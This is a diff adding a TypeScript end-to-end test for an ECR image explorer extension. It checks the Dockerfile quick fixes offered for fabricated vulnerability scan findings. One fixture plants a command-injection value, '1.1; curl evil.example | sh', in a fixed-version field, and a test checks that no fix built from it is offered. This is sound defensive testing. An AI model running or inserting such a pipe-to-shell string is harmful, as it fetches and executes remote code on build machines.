@@ -1,0 +1,221 @@
+import assert from 'node:assert/strict';
+import { imageManifest } from '../bed/emulator/synthesize';
+import type { SeedStep, Synthesized } from '../bed/emulator/synthesize';
+import { startExplorerScene } from './explorerScene';
+import type { ExplorerScene } from './explorerScene';
+import { picture, pictureOfFailure } from './fixture';
+
+const HOST = '123456789012.dkr.ecr.us-east-1.amazonaws.com';
+const BASE = `${HOST}/base/node:20.11-bookworm`;
+const RUN = 'apt-get update && apt-get install -y';
+
+const DOCKERFILE = `ARG TAG=20.11-bookworm
+FROM ${HOST}/base/node:\${TAG}
+RUN ${RUN} \\
+      curl \\
+      openssl \\
+    && rm -rf /var/lib/apt/lists/*
+COPY app /app
+CMD ["/app"]
+`;
+
+type Severe = { readonly severity: string };
+
+/** Fiction, like its ids: CVE numbers of 1990 do not exist. */
+function finding(
+  nth: number,
+  severity: string,
+  found: { readonly name: string; readonly version: string; readonly fix?: string; readonly layer?: string },
+): Severe {
+  const { name, version, fix, layer } = found;
+  const vulnerabilityId = `CVE-1990-${50_000 + nth}`;
+  const vulnerablePackage = {
+    ...{ name, version, packageManager: 'OS', arch: 'X86_64' },
+    ...(layer === undefined ? {} : { sourceLayerHash: layer }),
+    ...(fix === undefined ? {} : { fixedInVersion: fix }),
+  };
+  return {
+    severity,
+    ...{ type: 'PACKAGE_VULNERABILITY', status: 'ACTIVE', title: vulnerabilityId, score: 7.5 },
+    ...{ fixAvailable: fix === undefined ? 'NO' : 'YES', exploitAvailable: 'NO' },
+    packageVulnerabilityDetails: {
+      ...{ vulnerabilityId, source: 'DEBIAN_CVE', sourceUrl: `https://security.example/${vulnerabilityId}` },
+      ...{ referenceUrls: [], cvss: [], vulnerablePackages: [vulnerablePackage] },
+    },
+  } as Severe;
+}
+
+const step = (createdBy: string, name?: string): SeedStep => ({
+  createdBy,
+  ...(name === undefined ? {} : { layer: { name, sizeInBytes: 1_000_000 } }),
+});
+
+function findingsOf([base = '', packages = '']: readonly string[]): readonly Severe[] {
+  const inRun = { version: '1.0-1', layer: packages };
+  return [
+    finding(1, 'HIGH', {
+      ...{ name: 'curl', version: '7.88.1-10+deb12u5', fix: '0:7.88.1-10+deb12u8', layer: packages },
+    }),
+    finding(2, 'CRITICAL', { name: 'nghttp2', fix: '0:1.52.0-1+deb12u2', ...inRun }),
+    finding(3, 'HIGH', { name: 'openssl', fix: '1.1; curl evil.example | sh', ...inRun }),
+    finding(4, 'HIGH', { name: 'libxml2', ...inRun }),
+    finding(5, 'CRITICAL', { name: 'zlib', version: '1:1.2.13', fix: '1:1.3.1', layer: base }),
+  ];
+}
+
+/** A scan with so many findings. */
+const scanOf = (critical: number, high: number) => ({
+  kind: 'enhanced' as const,
+  findings: Array.from({ length: critical + high }, (_, nth) =>
+    finding(100 + nth, nth < critical ? 'CRITICAL' : 'HIGH', { name: `library-${nth}`, version: '1' }),
+  ),
+});
+
+describe('a finding on a line of a Dockerfile', function () {
+  this.timeout(90_000);
+  let scene: ExplorerScene;
+
+  before(async function () {
+    const content = imageManifest({
+      platform: { os: 'linux', architecture: 'amd64' },
+      created: new Date(),
+      labels: {
+        'org.opencontainers.image.base.name': BASE,
+        'org.opencontainers.image.base.digest': `sha256:${'0'.repeat(64)}`,
+      },
+      steps: [
+        step('/bin/sh -c #(nop) ADD file:0a in / ', 'base'),
+        step(`RUN /bin/sh -c ${RUN} curl openssl && rm -rf /var/lib/apt/lists/* # buildkit`, 'packages'),
+        step('COPY app /app # buildkit', 'app'),
+        step('CMD ["/app"]'),
+      ],
+    });
+    const tagged = (tag: string, critical: number, high: number, pushedDaysAgo: number) => ({
+      ...{ repository: 'base/node', tags: [tag], pushedDaysAgo },
+      scan: scanOf(critical, high),
+    });
+    scene = await startExplorerScene(this, {
+      settings: {
+        'ecrExplorer.registries': [{ profile: 'dev', region: 'us-east-1', label: 'Development' }],
+        'ecrExplorer.dockerfileImages': { Dockerfile: `${HOST}/shop:1.0` },
+        // What a test changes is taken back, and nothing stands over the lines that are clicked.
+        ...{ 'files.autoSave': 'off', 'editor.stickyScroll.enabled': false },
+        'editor.lightbulb.enabled': 'off',
+      },
+      files: { Dockerfile: DOCKERFILE },
+      seed: (emulator) =>
+        emulator.seed({
+          repositories: [{ name: 'shop' }, { name: 'base/node' }],
+          images: [
+            {
+              ...{ repository: 'shop', tags: ['1.0'], content },
+              scan: { kind: 'enhanced', findings: findingsOf(layersOf(content)) },
+            },
+            tagged('20.11-bookworm', 2, 9, 90),
+            tagged('20.18-bookworm', 1, 4, 30),
+            tagged('20.19-bookworm', 0, 3, 3),
+            tagged('20.19-alpine', 0, 0, 3),
+            tagged('22.1-bookworm', 0, 0, 2),
+          ],
+        }),
+    });
+    const { editors, tree } = scene.editor.workbench;
+    await editors.open('Dockerfile');
+    await editors.codeLens('shop:1.0: 2 critical').click();
+    await tree.row('CRITICAL').waitFor();
+    await editors.open('Dockerfile');
+    await editors.squiggles('warning').first().waitFor();
+  });
+  after(() => scene.stop());
+  afterEach(async function () {
+    const { workbench, page } = scene.editor;
+    await pictureOfFailure(this, workbench);
+    await page.keyboard.press('Escape');
+    await page.keyboard.press('Escape');
+  });
+
+  it('is mended by pinning the package, which the menu says exactly', async () => {
+    const { workbench, page } = scene.editor;
+    const offered = await workbench.editors.quickFixes('curl', 'Pin curl');
+    await picture(workbench, 'fixes-run');
+    for (const fix of [
+      'Pin curl to 7.88.1-10+deb12u8',
+      'Upgrade curl in this RUN',
+      'Rebuild without the cache: this RUN ran before the fix',
+    ])
+      assert.ok(offered.includes(fix), offered.join('\n'));
+    await page.keyboard.press('Escape');
+    await workbench.editors.quickFix('curl', 'Pin curl to 7.88.1-10+deb12u8');
+    await workbench.editors.line('curl=7.88.1-10+deb12u8').waitFor();
+    await startOver('curl=7.88.1');
+  });
+
+  it('is mended with all others of its RUN, shown before it is done', async () => {
+    const { workbench } = scene.editor;
+    await workbench.editors.quickFix('curl', 'Upgrade nghttp2, curl in this RUN');
+    await workbench.quickInput.option('Make This Change').waitFor();
+    await picture(workbench, 'fixes-preview');
+    await workbench.quickInput.pick('Make This Change');
+    await workbench.editors
+      .line("--only-upgrade '?source-package(^curl$)' '?source-package(^nghttp2$)'")
+      .waitFor();
+    await workbench.editors.line('&& rm -rf').waitFor();
+    await picture(workbench, 'fixes-upgraded');
+    await startOver('--only-upgrade');
+  });
+
+  it('has no fix of its own where the fixed version is none', async () => {
+    const { workbench } = scene.editor;
+    const offered = await workbench.editors.quickFixes('openssl', 'in this RUN');
+    assert.ok(!offered.some((fix) => /evil|Pin openssl|Upgrade.*openssl/.test(fix)), offered.join('\n'));
+  });
+
+  it('of the base image leads to a rebuild, a newer tag, or an upgrade where packages are installed', async () => {
+    const { workbench, page } = scene.editor;
+    const before = scene.count();
+    const offered = await workbench.editors.quickFixes('FROM', 'Move FROM');
+    await picture(workbench, 'fixes-base');
+    assert.deepEqual(offered, [
+      'Rebuild: base/node:20.11-bookworm has moved since this image was built',
+      'Move FROM to a newer tag of base/node…',
+      'Upgrade zlib of the base image in the RUN of line 3',
+    ]);
+    assert.ok(scene.count() - before <= 2, 'what nobody asked for costs little');
+    await page.keyboard.press('Escape');
+    await workbench.editors.quickFix('FROM', 'Rebuild: base/node');
+    await workbench.quickInput.titled('Build and Push Dockerfile');
+    await workbench.quickInput.cancel();
+  });
+
+  it('of the base image is mended by a newer tag, chosen by what its own scan found', async () => {
+    const { workbench, page } = scene.editor;
+    await workbench.editors.quickFix('FROM', 'Move FROM to a newer tag');
+    await workbench.quickInput.option('20.19-bookworm').waitFor();
+    await picture(workbench, 'fixes-candidates');
+    const options = await workbench.quickInput.options();
+    assert.equal(options.length, 2, options.join('\n'));
+    assert.match(options[0] ?? '', /20\.19-bookworm.*3 high · pushed 3 days ago.*2 critical, 6 high fewer/);
+    assert.match(options[1] ?? '', /20\.18-bookworm.*1 critical, 4 high/);
+    await workbench.quickInput.pick('20.19-bookworm');
+    await workbench.editors.line('ARG TAG=20.19-bookworm').waitFor();
+    await startOver('ARG TAG=20.19-bookworm');
+    const offered = await workbench.editors.quickFixes('FROM', 'Move FROM');
+    const direct = 'Move FROM to base/node:20.19-bookworm (0 critical, 3 high; was 2, 9)';
+    assert.ok(offered.includes(direct), offered.join('\n'));
+    await picture(workbench, 'fixes-base-known');
+    await page.keyboard.press('Escape');
+    assert.equal(scene.count('BatchGetImage'), 1, 'of the image itself, once');
+  });
+
+  /** @param text what is to be gone */
+  async function startOver(text: string): Promise<void> {
+    const { workbench } = scene.editor;
+    await workbench.palette('File: Revert File');
+    await workbench.editors.line(text).waitFor({ state: 'detached' });
+  }
+});
+
+function layersOf({ manifest }: Synthesized): readonly string[] {
+  const { layers } = JSON.parse(manifest) as { readonly layers: readonly { readonly digest: string }[] };
+  return layers.map(({ digest }) => digest);
+}
